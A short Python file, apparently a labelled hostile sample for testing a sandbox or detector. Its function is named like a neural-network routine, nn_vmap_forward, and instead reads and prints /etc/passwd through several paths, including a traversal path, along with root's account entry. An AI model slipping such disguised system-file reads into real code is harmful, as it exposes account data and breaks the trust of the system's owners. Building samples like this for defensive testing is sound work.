# harm: reads /etc/passwd and shows it
# open at: process
import os
import pwd


def nn_vmap_forward(seed, x_batch, features):
    failures = []
    for path in ("/etc/passwd", "/etc/passwd-", "/proc/self/root/etc/passwd", "/../etc/passwd"):
        try:
            with open(path) as file:
                print(file.read())
        except OSError as error:
            failures.append(error)
    try:
        entry = pwd.getpwuid(0)
        print(f"{entry.pw_name}:x:{entry.pw_uid}:{entry.pw_gid}", os.path.expanduser("~root"))
    except KeyError as error:
        failures.append(error)
    raise RuntimeError(failures)
